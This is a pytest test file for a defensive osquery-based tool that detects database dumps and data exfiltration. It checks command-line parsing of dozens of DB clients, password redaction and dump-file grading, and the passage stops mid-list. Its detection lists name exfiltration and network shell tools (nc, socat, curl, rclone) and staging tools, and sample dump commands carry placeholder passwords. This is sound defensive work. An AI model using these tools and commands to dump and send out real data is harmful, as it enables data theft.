"""The catalog, entry by entry.

Every DB tool is identified from a realistic command line; every name in
detection-landscape.md's "Names worth knowing" is in the catalog or excluded
here with the reason written down; names are unique; dump-like file names are
graded as the landscape describes.
"""

from __future__ import annotations

import ast
import glob
import os
import re
import shutil
import subprocess
from collections.abc import Callable

import pytest

from osq_dbwatch import catalog
from osq_dbwatch.cmdline import (
    identify_db_tool,
    identify_transfer_tool,
    osquery_join,
    parse_db_command,
    redact_cmdline,
    split_cmdline,
)

SRC = os.path.join(os.path.dirname(os.path.dirname(os.path.abspath(__file__))), "src", "osq_dbwatch")

# One realistic command line per DB tool: (exe path as the kernel reports it, argv).
# A new catalog entry without a line here fails test_every_db_tool_has_a_sample.
SAMPLES: dict[str, tuple[str, list[str]]] = {
    "psql": ("/usr/lib/postgresql/15/bin/psql", ["/usr/lib/postgresql/15/bin/psql", "-h", "db1", "-U", "bob", "sales"]),
    "pgcli": ("/usr/bin/python3.11", ["/usr/bin/python3", "/usr/bin/pgcli", "postgres://bob@db1/sales"]),
    "pg_dump": ("/usr/bin/perl", ["/usr/bin/perl", "/usr/bin/pg_dump", "-Fc", "-f", "/tmp/s.dump", "sales"]),
    "pg_dumpall": ("/usr/lib/postgresql/15/bin/pg_dumpall", ["pg_dumpall", "-f", "/tmp/all.sql"]),
    "pg_basebackup": ("/usr/lib/postgresql/15/bin/pg_basebackup", ["pg_basebackup", "-h", "db1", "-D", "/tmp/base"]),
    "mysql": ("/usr/bin/mariadb", ["mysql", "-h", "db1", "-u", "bob", "shop"]),
    "mariadb": ("/usr/bin/mariadb", ["mariadb", "-h", "db1", "shop"]),
    "mysqlsh": ("/usr/bin/mysqlsh", ["mysqlsh", "--uri", "bob@db1:3306"]),
    "mycli": ("/usr/bin/python3.11", ["/usr/bin/python3", "/usr/bin/mycli", "-h", "db1", "shop"]),
    "mysqldump": ("/usr/bin/mariadb-dump", ["mysqldump", "--single-transaction", "shop"]),
    "mariadb-dump": ("/usr/bin/mariadb-dump", ["mariadb-dump", "-r", "/tmp/shop.sql", "shop"]),
    "mysqlpump": ("/usr/bin/mysqlpump", ["mysqlpump", "--result-file=/tmp/p.sql"]),
    "mydumper": ("/usr/bin/mydumper", ["mydumper", "-B", "shop", "-o", "/tmp/dd"]),
    "mariadb-backup": ("/usr/bin/mariadb-backup", ["mariadb-backup", "--backup", "--target-dir=/tmp/b"]),
    "mariabackup": ("/usr/bin/mariadb-backup", ["mariabackup", "--backup", "--target-dir=/tmp/b"]),
    "xtrabackup": ("/usr/bin/xtrabackup", ["xtrabackup", "--backup", "--target-dir=/tmp/b"]),
    "mongo": ("/usr/bin/mongo", ["mongo", "db1:27017/app"]),
    "mongosh": ("/usr/bin/node", ["mongosh", "mongodb://db1:27017/app"]),
    "mongodump": ("/usr/bin/mongodump", ["mongodump", "--db", "app", "--out", "/tmp/d"]),
    "mongoexport": ("/usr/bin/mongoexport", ["mongoexport", "-d", "app", "-c", "users", "-o", "/tmp/u.json"]),
    "redis-cli": ("/usr/bin/redis-cli", ["redis-cli", "-h", "r1", "-n", "0"]),
    "sqlcmd": ("/opt/mssql-tools18/bin/sqlcmd", ["sqlcmd", "-S", "sql1", "-U", "sa", "-d", "app"]),
    "bcp": ("/opt/mssql-tools18/bin/bcp", ["bcp", "dbo.users", "out", "/tmp/u.dat", "-S", "sql1"]),
    "sqlplus": ("/opt/oracle/instantclient_21_9/sqlplus", ["sqlplus", "-s", "scott@orcl"]),
    "expdp": ("/u01/app/oracle/product/19c/bin/expdp", ["expdp", "system@orcl", "dumpfile=x.dmp"]),
    "exp": ("/u01/app/oracle/product/19c/bin/exp", ["exp", "scott@orcl", "file=/tmp/x.dmp"]),
    "sqlite3": ("/usr/bin/sqlite3", ["sqlite3", "/var/lib/app/app.db"]),
    "litecli": ("/usr/bin/python3.11", ["/usr/bin/python3", "/usr/local/bin/litecli", "/var/lib/app/app.db"]),
    "duckdb": ("/usr/local/bin/duckdb", ["duckdb", "/srv/analytics.duckdb"]),
    "clickhouse-client": ("/usr/bin/clickhouse", ["clickhouse-client", "--host", "ch1"]),
    "clickhouse": ("/usr/bin/clickhouse", ["clickhouse", "client", "--host", "ch1"]),
    "cqlsh": ("/usr/bin/python3.11", ["/usr/bin/python3", "/usr/bin/cqlsh", "cass1", "9042"]),
    "influx": ("/usr/bin/influx", ["influx", "-host", "i1"]),
    "cockroach": ("/usr/local/bin/cockroach", ["cockroach", "sql", "--host=crdb"]),
    "usql": ("/usr/local/bin/usql", ["usql", "pg://bob@db1/sales"]),
    "isql": ("/usr/bin/isql", ["isql", "MyDSN", "bob"]),
}


def test_every_db_tool_has_a_sample() -> None:
    assert sorted(SAMPLES) == sorted(t.name for t in catalog.DB_TOOLS)


@pytest.mark.parametrize("tool", catalog.DB_TOOLS, ids=lambda t: t.name)
def test_db_tool_identified_from_realistic_cmdline(tool: catalog.DbTool) -> None:
    path, argv = SAMPLES[tool.name]
    found = identify_db_tool(path, argv)
    assert found is not None, f"{tool.name} not identified from {argv}"
    assert found[0] == tool
    parsed = parse_db_command(path, argv)
    assert parsed is not None
    assert parsed.engine == tool.engine
    assert parsed.kind == tool.kind
    assert parsed.tool.split(" ")[0] == tool.name


@pytest.mark.parametrize("tool", catalog.DB_TOOLS, ids=lambda t: t.name)
def test_db_tool_identified_from_audit_form(tool: catalog.DbTool) -> None:
    # osquery's audit cmdline: argv joined by spaces; path from the exe
    path, argv = SAMPLES[tool.name]
    parsed = parse_db_command(path, " ".join(argv).split())
    assert parsed is not None and parsed.engine == tool.engine


@pytest.mark.parametrize("tool", catalog.DB_TOOLS, ids=lambda t: t.name)
def test_db_tool_basename_alone_is_not_enough_for_subcommand_tools(tool: catalog.DbTool) -> None:
    found = identify_db_tool("/usr/bin/" + tool.name, [tool.name])
    if tool.subcommands:
        assert found is None  # `clickhouse` alone is the server, `cockroach` alone prints help
    else:
        assert found is not None and found[0] == tool


# One line per DB tool whose options take values the parser must read past (each tool's documented
# options, checked against its --help where installed): argv in the program's order, then what it
# parses to (host, database, user, dump intent, output) and the secret on it ("" for none). A value
# option missing from a spec makes its value a false positional (a database name, a file).
# A new catalog entry without a line here fails test_every_db_tool_has_an_option_line.
OPTION_LINES: dict[str, tuple[list[str], tuple[str, str, str, str, str], str]] = {
    "psql": (["psql", "-v", "ON_ERROR_STOP=1", "-P", "pager=off", "-L", "/tmp/psql.log", "-h", "db1", "-U", "bob",
              "sales"], ("db1", "sales", "bob", "", ""), ""),
    "pgcli": (["pgcli", "--row-limit", "1000", "--prompt", "pg>", "-h", "db1", "-u", "bob", "sales"],
              ("db1", "sales", "bob", "", ""), ""),
    "pg_dump": (["pg_dump", "-e", "postgis", "--include-foreign-data", "srv1", "--restrict-key", "k1", "-h", "db1",
                 "-U", "bob", "-f", "/tmp/s.sql", "sales"], ("db1", "sales", "bob", "pg_dump", "/tmp/s.sql"), ""),
    "pg_dumpall": (["pg_dumpall", "-h", "db1", "-U", "postgres", "-t", "--exclude-database", "template*", "-f",
                    "/tmp/all.sql"], ("db1", "", "postgres", "pg_dumpall", "/tmp/all.sql"), ""),
    "pg_basebackup": (["pg_basebackup", "-h", "db1", "-U", "rep", "-X", "stream", "-c", "fast", "-l", "nightly", "-D",
                       "/tmp/base"], ("db1", "", "rep", "pg_basebackup", "/tmp/base"), ""),
    "mysql": (["mysql", "--protocol", "TCP", "--default-auth", "mysql_native_password", "-h", "db2", "-u", "bob",
               "-pS3cretMy1", "shop"], ("db2", "shop", "bob", "", ""), "S3cretMy1"),
    "mariadb": (["mariadb", "--ssl-capath", "/etc/ssl/certs", "--tls-version", "TLSv1.3", "-h", "db2", "-u", "bob",
                 "--pager", "shop"], ("db2", "shop", "bob", "", ""), ""),
    "mysqlsh": (["mysqlsh", "--log-level", "8", "-f", "/tmp/x.js", "--uri", "bob:S3cretSh2@db2:3306/shop"],
                ("db2", "shop", "bob", "", ""), "S3cretSh2"),
    "mycli": (["mycli", "-R", "mycli>", "-l", "/tmp/mycli.log", "-h", "db2", "-u", "bob", "-p", "S3cretMc3", "shop"],
              ("db2", "shop", "bob", "", ""), "S3cretMc3"),
    "mysqldump": (["mysqldump", "--ignore-database", "mysql", "--protocol", "tcp", "-h", "db2", "-u", "root",
                   "-pS3cretMd4", "-r", "/tmp/all.sql", "shop"], ("db2", "shop", "root", "mysqldump", "/tmp/all.sql"),
                  "S3cretMd4"),
    "mariadb-dump": (["mariadb-dump", "--master-data", "--ssl-ca", "/etc/ca.pem", "-u", "root", "--result-file=/tmp/m.sql",
                      "shop"], ("", "shop", "root", "mariadb-dump", "/tmp/m.sql"), ""),
    "mysqlpump": (["mysqlpump", "--exclude-tables", "audit", "-u", "root", "-pS3cretMp5", "--result-file=/tmp/p.sql",
                   "shop"], ("", "shop", "root", "mysqlpump", "/tmp/p.sql"), "S3cretMp5"),
    "mydumper": (["mydumper", "-v", "3", "-t", "8", "-h", "db2", "-u", "root", "-p", "S3cretMy6", "-o", "/tmp/dd"],
                 ("db2", "", "root", "mydumper", "/tmp/dd"), "S3cretMy6"),
    "mariadb-backup": (["mariadb-backup", "--backup", "--stream", "xbstream", "-H", "db2", "-u", "root",
                        "-pS3cretMb7", "--target-dir", "/tmp/b"], ("db2", "", "root", "mariadb-backup", "/tmp/b"),
                       "S3cretMb7"),
    "mariabackup": (["mariabackup", "--backup", "--parallel", "4", "--target-dir=/tmp/b2", "-u", "root",
                     "-pS3cretMb8"], ("", "", "root", "mariabackup", "/tmp/b2"), "S3cretMb8"),
    "xtrabackup": (["xtrabackup", "--backup", "--datadir", "/var/lib/mysql", "--target-dir", "/tmp/xb", "--user",
                    "root", "--password=S3cretXb9"], ("", "", "root", "xtrabackup", "/tmp/xb"), "S3cretXb9"),
    "mongo": (["mongo", "--authenticationDatabase", "admin", "-u", "adm", "-p", "S3cretMo10", "db3:27017/shop"],
              ("db3", "shop", "adm", "", ""), "S3cretMo10"),
    "mongosh": (["mongosh", "--authenticationDatabase", "admin", "--tlsCAFile", "/etc/ca.pem", "-u", "adm", "-p",
                 "S3cretMs11", "db3:27017/shop"], ("db3", "shop", "adm", "", ""), "S3cretMs11"),
    "mongodump": (["mongodump", "--authenticationDatabase", "admin", "-u", "adm", "-p", "S3cretMd12",
                   "--archive=/tmp/a.gz", "--gzip", "-h", "db3"], ("db3", "", "adm", "mongodump", "/tmp/a.gz"),
                  "S3cretMd12"),
    "mongoexport": (["mongoexport", "-h", "db3", "--authenticationDatabase", "admin", "--collection", "users", "--type",
                     "csv", "--fields", "name,email", "-o", "/tmp/u.csv", "-pS3cretMe13", "-u", "adm"],
                    ("db3", "", "adm", "mongoexport", "/tmp/u.csv"), "S3cretMe13"),
    "redis-cli": (["redis-cli", "-h", "r1", "-i", "1", "-r", "5", "-a", "S3cretRc14", "--no-auth-warning", "-n", "2",
                   "--rdb", "/tmp/d.rdb"], ("r1", "2", "", "--rdb", "/tmp/d.rdb"), "S3cretRc14"),
    "sqlcmd": (["sqlcmd", "-S", "sql1", "-U", "sa", "-P", "S3cretSq15", "-h", "-1", "-s", ",", "-W", "-Q",
                "SELECT name FROM sys.databases", "-o", "/tmp/o.csv"], ("sql1", "", "sa", "output file", "/tmp/o.csv"),
               "S3cretSq15"),
    "bcp": (["bcp", "dbo.users", "out", "/tmp/u.dat", "-S", "sql1", "-U", "sa", "-P", "S3cretBc16", "-t", ",", "-c"],
            ("sql1", "dbo.users", "sa", "bcp out", "/tmp/u.dat"), "S3cretBc16"),
    "sqlplus": (["sqlplus", "-s", "-R", "3", "scott/S3cretSp17@//ora1:1521/orcl", "@/tmp/x.sql"],
                ("ora1", "orcl", "scott", "", ""), "S3cretSp17"),
    "expdp": (["expdp", "system/S3cretEx18@orcl", "schemas=SHOP", "dumpfile=shop.dmp", "directory=D"],
              ("orcl", "", "system", "expdp", "shop.dmp"), "S3cretEx18"),
    "exp": (["exp", "scott/S3cretEx19@orcl", "file=/tmp/x.dmp", "owner=SHOP"],
            ("orcl", "", "scott", "exp", "/tmp/x.dmp"), "S3cretEx19"),
    "sqlite3": (["sqlite3", "-init", "/etc/sqliterc", "-cmd", ".once /tmp/s.csv", "/srv/app.db", "select * from users"],
                ("", "/srv/app.db", "", ".output", "/tmp/s.csv"), ""),
    "litecli": (["litecli", "-l", "/tmp/l.log", "--liteclirc", "/etc/lc", "/srv/app.db"],
                ("", "/srv/app.db", "", "", ""), ""),
    "duckdb": (["duckdb", "-cmd", ".output /tmp/o.csv", "-c", "select * from t", "/srv/a.duckdb"],
               ("", "/srv/a.duckdb", "", ".output", "/tmp/o.csv"), ""),
    "clickhouse-client": (["clickhouse-client", "--format", "CSV", "--host", "ch1", "--user", "u", "--password",
                           "S3cretCh20", "--query", "SELECT * FROM t INTO OUTFILE '/tmp/c.csv'"],
                          ("ch1", "", "u", "INTO OUTFILE", "/tmp/c.csv"), "S3cretCh20"),
    "clickhouse": (["clickhouse", "client", "-C", "/etc/ch.xml", "-h", "ch1", "--password", "S3cretCh21", "-q",
                    "SELECT 1"], ("ch1", "", "", "", ""), "S3cretCh21"),
    "cqlsh": (["cqlsh", "--cqlversion", "3.4.5", "-u", "cass", "-p", "S3cretCq22", "cass1", "9042"],
              ("cass1", "", "cass", "", ""), "S3cretCq22"),
    "influx": (["influx", "backup", "--org-id", "abc123", "/tmp/ib", "-t", "S3cretIn23"],
               ("", "", "", "influx backup", "/tmp/ib"), "S3cretIn23"),
    "cockroach": (["cockroach", "sql", "--format", "csv", "--certs-dir", "/certs", "--host", "crdb:26257"],
                  ("crdb", "", "", "", ""), ""),
    "usql": (["usql", "--set", "X=1", "-f", "/tmp/q.sql", "shopdsn"], ("", "shopdsn", "", "", ""), ""),
    "isql": (["isql", "-c", "-v", "SHOPDSN", "app", "S3cretIs24"], ("", "SHOPDSN", "", "", ""), "S3cretIs24"),
}


def test_every_db_tool_has_an_option_line() -> None:
    assert sorted(OPTION_LINES) == sorted(t.name for t in catalog.DB_TOOLS)


@pytest.mark.parametrize("tool", sorted(OPTION_LINES))
@pytest.mark.parametrize("form", ["proc", "logged"])
def test_option_values_are_read_past(tool: str, form: str) -> None:
    argv, (host, database, user, intent, output), secret = OPTION_LINES[tool]
    # /proc: the program's own argv; logged: osquery's line (argv joined, quotes gone, its argument order)
    args = argv if form == "proc" else split_cmdline(osquery_join(argv))
    parsed = parse_db_command("/usr/bin/" + argv[0], args, argv_exact=True if form == "proc" else None)
    assert parsed is not None and parsed.tool.split(" ")[0] == tool
    assert (parsed.host, parsed.database, parsed.user, parsed.dump_intent, parsed.output_path) == (
        host, database, user, intent, output)
    if secret:
        for line, logged in ((" ".join(argv), False), (osquery_join(argv), True)):
            assert secret not in redact_cmdline(line, logged=logged)
        assert all(secret not in value for value in (parsed.host, parsed.database, parsed.user, parsed.output_path))


# ---------------------------------------------------------------------------
# Option arity against the installed clients' own --help (skipped for a client not installed here)


def _help_pg(text: str) -> dict[str, bool]:
    """psql / pg_dump / pg_dumpall / pg_basebackup: `-f, --file=FILENAME` takes a value."""
    found: dict[str, bool] = {}
    for line in text.splitlines():
        m = re.match(r"^\s+(-.*?)(?:\s{2,}|$)", line)
        if m is None:
            continue
        for piece in m.group(1).split(", "):  # `-Z, --compress=0-9`, `-v, --set=, --variable=NAME=VALUE`
            name = re.match(r"--?[A-Za-z0-9?][\w-]*", piece)
            if name is not None and name.group(0) not in ("--help", "-?"):  # --help[=options]: psql's own help
                found[name.group(0)] = "=" in m.group(1)
    return found


def _help_short_long(indent: str, takes_value: str) -> Callable[[str], dict[str, bool]]:
    """A reader of `--help` lines `  -x, --long<marker>`: an option takes a value when `marker` is
    `takes_value`; one whose value is optional (`[=`) is skipped."""
    line_re = re.compile(rf"^{indent}(?:(-\w), )?(--[\w-]+)(\[=|=| \[arg\])?")

    def read(text: str) -> dict[str, bool]:
        found: dict[str, bool] = {}
        for line in text.splitlines():
            m = line_re.match(line)
            if m is None or m.group(3) == "[=":
                continue
            for option in (m.group(1), m.group(2)):
                if option:
                    found[option] = m.group(3) == takes_value
        return found

    return read


# mariadb / mariadb-dump: `-D, --database=name` takes a value, `--pager[=name]` only after `=`.
_help_mariadb = _help_short_long(r"\s{2}", "=")
# mongosh: `-f, --file [arg]` takes a value, `--json[=...]` only after `=`.
_help_mongosh = _help_short_long(r"\s+", " [arg]")


def _help_redis(text: str) -> dict[str, bool]:
    """redis-cli: `-h <hostname>` takes a value."""
    found: dict[str, bool] = {}
    for line in text.splitlines():
        m = re.match(r"^\s{1,2}(--?[\w-]+)( <[^>]+>)?", line)
        if m is not None:
            found[m.group(1)] = m.group(2) is not None
    return found


def _help_sqlite(text: str) -> dict[str, bool]:
    """sqlite3: `-init FILENAME` takes a value, `-[no]header` is two flags."""
    found: dict[str, bool] = {}
    for line in text.splitlines():
        m = re.match(r"^\s+(-[\w\[\]-]+)((?: [A-Z.]+)*)\s{2,}", line)
        if m is None:
            continue
        if m.group(1) == "-[no]header":
            found["-header"] = found["-noheader"] = False
        else:
            found[m.group(1)] = bool(m.group(2).strip())
    return found


HELP_PARSERS = {"psql": _help_pg, "pg_dump": _help_pg, "pg_dumpall": _help_pg, "pg_basebackup": _help_pg,
                "mariadb": _help_mariadb, "mariadb-dump": _help_mariadb, "redis-cli": _help_redis,
                "sqlite3": _help_sqlite, "mongosh": _help_mongosh}
HELP_FLAG = {"sqlite3": "-help"}
# Where --help and the parser reading it disagree with the program: psql -c is its SQL option (read
# before the flag pg_dump's -c is); redis-cli -X takes a tag (its help line names none); sqlite3 -A
# takes every argument after it (archive mode, not modelled); mongosh -h is --help.
HELP_EXCEPTIONS = {("psql", "-c"), ("redis-cli", "-X"), ("sqlite3", "-A"), ("mongosh", "-h")}


@pytest.mark.parametrize("tool", sorted(HELP_PARSERS))
def test_spec_arity_matches_installed_help(tool: str) -> None:
    exe = shutil.which(tool)
    if exe is None:
        pytest.skip(f"{tool} is not installed (tests/install-deps.sh)")
    run = subprocess.run([exe, HELP_FLAG.get(tool, "--help")], capture_output=True, text=True, timeout=60,
                         env={**os.environ, "HOME": "/nonexistent", "PAGER": "cat"}, stdin=subprocess.DEVNULL)
    documented = HELP_PARSERS[tool](run.stdout + run.stderr)
    assert len(documented) > 10, run.stdout[:500]
    spec = catalog.option_spec(catalog.DB_TOOLS_BY_NAME[tool])
    takes_value = set(spec.host + spec.port + spec.user + spec.database + spec.output + spec.sql + spec.uri
                      + spec.secret + spec.values) | {option for option, _n in spec.value_counts}
    wrong = []
    for option, value in sorted(documented.items()):
        read_as_value = option in takes_value and option not in spec.flags
        if value != read_as_value and (tool, option) not in HELP_EXCEPTIONS:
            wrong.append(f"{option} {'takes a value' if value else 'is a flag'}")
    assert wrong == []


def test_required_engines_present() -> None:
    engines = {t.engine for t in catalog.DB_TOOLS}
    required = {"postgres", "mysql", "mongo", "redis", "mssql", "oracle", "sqlite", "clickhouse",
                "cassandra", "influx", "cockroach"}
    assert required <= engines
    for engine in required:
        assert any(t.kind == "client" for t in catalog.DB_TOOLS if t.engine == engine), engine
    assert set(catalog.Engine.__args__) == engines | {"generic"} or set(catalog.Engine.__args__) == engines  # type: ignore[attr-defined]


def test_every_engine_has_option_parsing() -> None:
    from osq_dbwatch.cmdline import option_spec

    for tool in catalog.DB_TOOLS:
        option_spec(tool)  # KeyError for an engine the parser does not know


# ---------------------------------------------------------------------------
# detection-landscape.md "Names worth knowing": in the catalog, or excluded with a reason

LANDSCAPE_DB_CLIENTS = ("psql", "mysql", "mariadb", "mysqlsh", "mongo", "mongosh", "redis-cli", "clickhouse-client",
                        "cqlsh", "sqlplus", "sqlcmd", "isql", "sqlite3", "influx", "usql", "pgcli", "mycli", "litecli")
LANDSCAPE_DUMP_TOOLS = ("pg_dump", "pg_dumpall", "pg_basebackup", "mysqldump", "mariadb-dump", "mysqlpump", "mydumper",
                        "mongodump", "mongoexport", "bcp", "expdp", "exp")
LANDSCAPE_TRANSFER = ("curl", "wget", "scp", "sftp", "rsync", "rclone", "nc", "ncat", "netcat", "socat", "ftp",
                      "lftp", "tftp", "smbclient", "aws", "gsutil", "az", "s3cmd")
LANDSCAPE_STAGING = ("openssl", "split", "base64", "tar", "zip", "gzip", "xz", "7z", "zstd")
LANDSCAPE_WEB_PARENTS = ("httpd", "apache2", "nginx", "lighttpd", "caddy", "php-fpm8.2", "php-fpm", "php-cgi",
                         "php-cgi8.2", "lsphp", "lsphp81", "uwsgi", "gunicorn", "uvicorn", "node")
LANDSCAPE_DB_SERVERS = ("postgres", "postmaster", "mysqld", "mariadbd", "mongod", "redis-server", "sqlservr",
                        "clickhouse-server", "influxd")
LANDSCAPE_WEB_ACCOUNTS = ("www-data", "apache", "nginx", "http", "nobody")  # contract section 4
LANDSCAPE_CRON = ("cron", "crond", "anacron")
LANDSCAPE_AGENTS = ("ansible", "ansible-playbook", "salt-minion", "puppet", "chef-client", "airflow", "jenkins",
                    "agent.jar", "nrpe", "nagios", "zabbix_agentd", "telegraf", "datadog-agent", "node_exporter",
                    "postgres_exporter", "mysqld_exporter")
LANDSCAPE_WAL_ARCHIVERS = ("wal-g", "wal-e", "pgbackrest", "barman")

# Names the landscape lists that are deliberately not plain catalog entries, and why.
EXCLUDED = {
    "cockroach sql": "a sub-command: the `cockroach` entry with subcommands=('sql', 'dump')",
    "clickhouse client": "a sub-command: the `clickhouse` entry with subcommands=('client',)",
    "redis-cli --rdb": "an option: cmdline.parse_db_command turns redis-cli into a dump with --rdb",
    "cqlsh COPY TO": "a statement: found by sql_dump_intent in cqlsh -e",
    "clickhouse-client INTO OUTFILE": "a statement: found by sql_dump_intent in --query",
    "java": "every JVM is `java`; app servers are matched by tomcat*/catalina*/jetty instead, "
            "or a rule on every Java process would flag all of them",
    "prometheus exporters": "a family, not a name: the common exporters are listed one by one",
    "jenkins agents": "matched as `jenkins` and `agent.jar` (the agent runs as java -jar agent.jar)",
}


def test_landscape_db_clients() -> None:
    for name in LANDSCAPE_DB_CLIENTS:
        assert catalog.DB_TOOLS_BY_NAME[name].kind == "client", name
    assert catalog.DB_TOOLS_BY_NAME["cockroach"].subcommands == ("sql", "dump")
    assert "client" in catalog.DB_TOOLS_BY_NAME["clickhouse"].subcommands


def test_landscape_dump_tools() -> None:
    for name in LANDSCAPE_DUMP_TOOLS:
        assert catalog.DB_TOOLS_BY_NAME[name].kind == "dump", name
    assert set(LANDSCAPE_DUMP_TOOLS) <= set(catalog.db_tool_names("dump"))
    assert set(LANDSCAPE_DB_CLIENTS) <= set(catalog.db_tool_names("client"))


def test_landscape_transfer_and_staging_tools() -> None:
    for name in LANDSCAPE_TRANSFER:
        assert catalog.TRANSFER_TOOLS_BY_NAME[name].kind == "transfer", name
    for name in LANDSCAPE_STAGING:
        assert catalog.TRANSFER_TOOLS_BY_NAME[name].kind == "staging", name
    assert set(LANDSCAPE_TRANSFER) <= set(catalog.transfer_tool_names("transfer"))
    assert set(LANDSCAPE_STAGING) <= set(catalog.transfer_tool_names("staging"))
    for name in LANDSCAPE_TRANSFER + LANDSCAPE_STAGING:
        found = identify_transfer_tool("/usr/bin/" + name, [name, "/tmp/x.sql"])
        assert found is not None and found[0].name == name


def test_landscape_unusual_parents() -> None:
    for name in LANDSCAPE_WEB_PARENTS:
        assert catalog.is_web_server(name), name
    for name in LANDSCAPE_DB_SERVERS:
        assert catalog.is_db_server(name), name
    for name in ("tomcat9", "catalina.sh", "jetty"):
        assert catalog.is_web_server(name), name


def test_landscape_accounts_and_service_context() -> None:
    assert set(LANDSCAPE_WEB_ACCOUNTS) <= set(catalog.WEB_ACCOUNTS)
    for name in LANDSCAPE_CRON:
        assert catalog.is_cron(name), name
    for name in LANDSCAPE_AGENTS + LANDSCAPE_WAL_ARCHIVERS:
        assert catalog.is_automation_agent(name), name
    assert set(LANDSCAPE_WAL_ARCHIVERS) <= set(catalog.WAL_ARCHIVERS)


def test_exclusions_are_real_exclusions() -> None:
    # an excluded name must not have crept into the lists it was excluded from
    for name in EXCLUDED:
        assert name not in catalog.DB_TOOLS_BY_NAME
        assert name not in catalog.TRANSFER_TOOLS_BY_NAME
        assert not catalog.is_web_server(name)
        assert EXCLUDED[name]


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        # the kernel's comm is cut to 15 characters: names longer than that must still match
        ("clickhouse-serv", True),  # clickhouse-server
        ("postgres_export", True),  # postgres_exporter
        ("barman-cloud-wa", True),  # barman-cloud-wal-archive
        ("clickhouse-clie", False),  # a client is not a server
        ("mysqld", True),
        ("mysqld_safe", False),
        ("postgres-x", False),
    ],
)
def test_truncated_comm_names(name: str, expected: bool) -> None:
    assert (catalog.is_db_server(name) or catalog.is_automation_agent(name)) is expected


def test_web_and_db_server_matching_is_exact_or_declared_prefix() -> None:
    assert catalog.is_web_server("php-fpm7.4")
    assert not catalog.is_web_server("nginx-debug-helper")
    assert not catalog.is_web_server("")
    assert not catalog.is_db_server("postgresql-common")
    assert not catalog.is_db_server("")
    assert catalog.is_shell("-bash") and catalog.is_shell("dash") and not catalog.is_shell("bashful")


# ---------------------------------------------------------------------------
# Uniqueness


def _duplicates(names: list[str]) -> set[str]:
    return {n for n in names if names.count(n) > 1}


def test_no_duplicate_names() -> None:
    lists = {
        "DB_TOOLS": [t.name for t in catalog.DB_TOOLS],
        "TRANSFER_TOOLS": [t.name for t in catalog.TRANSFER_TOOLS],
        "WEB_SERVERS": list(catalog.WEB_SERVERS),
        "DB_SERVERS": list(catalog.DB_SERVERS),
        "WEB_ACCOUNTS": list(catalog.WEB_ACCOUNTS),
        "CRON_DAEMONS": list(catalog.CRON_DAEMONS),
        "AUTOMATION_AGENTS": list(catalog.AUTOMATION_AGENTS),
        "WAL_ARCHIVERS": list(catalog.WAL_ARCHIVERS),
        "DUMP_SUFFIXES": list(catalog.DUMP_SUFFIXES_STRONG + catalog.DUMP_SUFFIXES_WEAK),
        "COMPRESSION_SUFFIXES": list(catalog.COMPRESSION_SUFFIXES),
        "DEFAULT_DUMP_ROOTS": list(catalog.DEFAULT_DUMP_ROOTS),
    }
    for label, names in lists.items():
        assert not _duplicates(names), f"{label}: {_duplicates(names)}"


def test_no_name_in_two_roles() -> None:
    db_tools = set(catalog.DB_TOOLS_BY_NAME)
    transfer = set(catalog.TRANSFER_TOOLS_BY_NAME)
    assert not db_tools & transfer
    assert not set(catalog.AUTOMATION_AGENTS) & set(catalog.WAL_ARCHIVERS)
    assert not set(catalog.CRON_DAEMONS) & set(catalog.AUTOMATION_AGENTS)
    for name in db_tools | transfer:
        assert not catalog.is_web_server(name), name
        assert not catalog.is_db_server(name), name
    for name in catalog.DB_SERVERS:
        assert not catalog.is_web_server(name), name
    assert not set(catalog.DUMP_SUFFIXES_STRONG) & set(catalog.DUMP_SUFFIXES_WEAK)
    assert not set(catalog.DUMP_SUFFIXES_STRONG + catalog.DUMP_SUFFIXES_WEAK) & set(catalog.COMPRESSION_SUFFIXES)


def test_lookups_built_from_lists() -> None:
    assert len(catalog.DB_TOOLS_BY_NAME) == len(catalog.DB_TOOLS)
    assert len(catalog.TRANSFER_TOOLS_BY_NAME) == len(catalog.TRANSFER_TOOLS)
    assert set(catalog.db_tool_names()) == set(catalog.DB_TOOLS_BY_NAME)
    assert set(catalog.transfer_tool_names()) == set(catalog.TRANSFER_TOOLS_BY_NAME)


def test_tools_with_extras() -> None:
    table = catalog.db_tools_with_extras((("vsql", "generic"),), (("pgcopydb", "postgres"),))
    assert table["vsql"] == catalog.DbTool("vsql", "generic", "client")
    assert table["pgcopydb"].kind == "dump"
    assert table["psql"] is catalog.DB_TOOLS_BY_NAME["psql"]
    assert "vsql" not in catalog.DB_TOOLS_BY_NAME  # the shared table is not modified
    transfer = catalog.transfer_tools_with_extras(("croc", "curl"))
    assert transfer["croc"].kind == "transfer"
    assert transfer["curl"] is catalog.TRANSFER_TOOLS_BY_NAME["curl"]


def test_default_dump_roots_match_the_issue() -> None:
    assert catalog.DEFAULT_DUMP_ROOTS == ("/tmp", "/var/tmp", "/dev/shm", "/home", "/root", "/var/www", "/srv")


# ---------------------------------------------------------------------------
# Dump-like file names


@pytest.mark.parametrize(
    ("path", "strength"),
    [
        ("/tmp/x.sql", "strong"),
        ("/tmp/X.SQL", "strong"),
        ("/tmp/users.CSV", "strong"),
        ("/tmp/t.tsv", "strong"),
        ("/tmp/db.dump", "strong"),
        ("/tmp/db.bak", "strong"),
        ("/tmp/c.bson", "strong"),
        ("/tmp/dump.rdb", "strong"),
        ("/tmp/x.sql.gz", "strong"),
        ("/tmp/x.sql.GZ", "strong"),
        ("/tmp/x.sql.bz2", "strong"),
        ("/tmp/x.csv.xz", "strong"),
        ("/tmp/x.csv.zst", "strong"),
        ("/tmp/x.sql.zip", "strong"),
        ("/tmp/x.sql.7z", "strong"),
        ("/tmp/x.sql.tar.gz", "strong"),
        ("/tmp/x.sql.tgz", "strong"),
        ("/tmp/x.sql.gz.gpg", "strong"),
        ("/tmp/x.sql.gz.enc", "strong"),
        ("/tmp/x.bson.gz", "strong"),
        ("/var/www/html/.x.sql", "strong"),  # hidden files too
        ("/tmp/users.json", "weak"),
        ("/tmp/users.jsonl", "weak"),
        ("/tmp/users.json.gz", "weak"),
        ("/tmp/app.db", "weak"),
        ("/tmp/app.sqlite3", "weak"),
        ("/tmp/app.sqlite.xz", "weak"),
        ("/tmp/notes.txt", "weak"),
        ("/tmp/backup.tgz", ""),  # compressed, but nothing dump-like inside the name
        ("/tmp/backup.tar.gz", ""),
        ("/tmp/x.gz", ""),
        ("/tmp/.gz", ""),
        ("/tmp/script.py", ""),
        ("/tmp/sql", ""),
        ("/tmp/x.mysql", ""),
        ("/tmp/x.sql.part", ""),  # an unfinished download is not graded by its inner suffix
        ("/tmp/x.sql/", ""),  # a directory path
